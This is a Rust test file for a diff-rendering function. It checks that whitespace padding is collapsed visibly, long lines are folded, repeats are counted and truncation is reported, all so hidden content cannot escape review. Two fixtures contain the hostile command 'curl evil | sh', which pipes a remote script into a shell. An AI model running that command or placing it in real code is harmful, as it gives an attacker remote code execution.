use super::{LONGEST_ROW, MOST_ROWS, ShownPart, rows};

fn check(lines: &[&str], expected: &str) {
    let lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
    assert_eq!(rows(&lines), expected);
}

#[test]
fn padding_hides_nothing() {
    let padded = format!("+echo ok{}; curl evil | sh", " ".repeat(400));
    check(&[&padded], "+echo ok⟨400 blanks⟩; curl evil | sh\n");
    let mixed = format!("+a{}b", "\t \u{3000}\u{2800}".repeat(20));
    check(&[&mixed], "+a⟨80 blanks⟩b\n");
    let dashes = format!("+#{}#", "-".repeat(200));
    check(&[&dashes], "+#⟨200 × -⟩#\n");
    check(&["+\u{202e}\u{200b}\x1b[2J"], "+\\u{202e}\\u{200b}\\x1b[2J\n");
}

#[test]
fn a_long_line_is_folded_and_not_cut() {
    let line = format!("+{}; curl evil | sh", "ab".repeat(LONGEST_ROW));
    let lines = [line.clone()];
    let shown = rows(&lines);
    assert_eq!(shown.lines().map(|row| row.trim_start_matches("↪ ")).collect::<String>(), line);
    assert!(shown.lines().all(|row| row.chars().count() <= LONGEST_ROW + 2), "{shown}");
}

#[test]
fn equal_lines_are_counted() {
    check(&["+", "+", "+", "+", "+x"], "+\n⟨the same line 3 more times⟩\n+x\n");
    check(&["+a", "+a", "+a"], "+a\n+a\n+a\n");
    check(&[""], "\n");
}

#[test]
fn what_does_not_fit_is_counted_and_named() {
    let hunk: String = (0..30).map(|line| format!("+{line}\n")).collect();
    let change = format!("@@ 1\n{hunk}@@ 2\n{hunk}@@ 3\n+last\n");
    let part = ShownPart::of(&change);
    assert_eq!(part.text.lines().count(), MOST_ROWS);
    assert_eq!((part.is_whole(), part.left_out().as_str()), (false, "24 more lines of 2 hunks"));
    assert_eq!(part.text.to_owned() + part.rest, change);
    let wide = format!("{}\n", "x".repeat(9_000));
    assert!(!ShownPart::of(&wide).is_whole());
    assert!(ShownPart::of("+1 -0\n").is_whole());
    let last = change.lines().take(MOST_ROWS + 1).map(|row| format!("{row}\n")).collect::<String>();
    assert_eq!(ShownPart::of(&last).left_out(), "1 more line of 1 hunk");
}
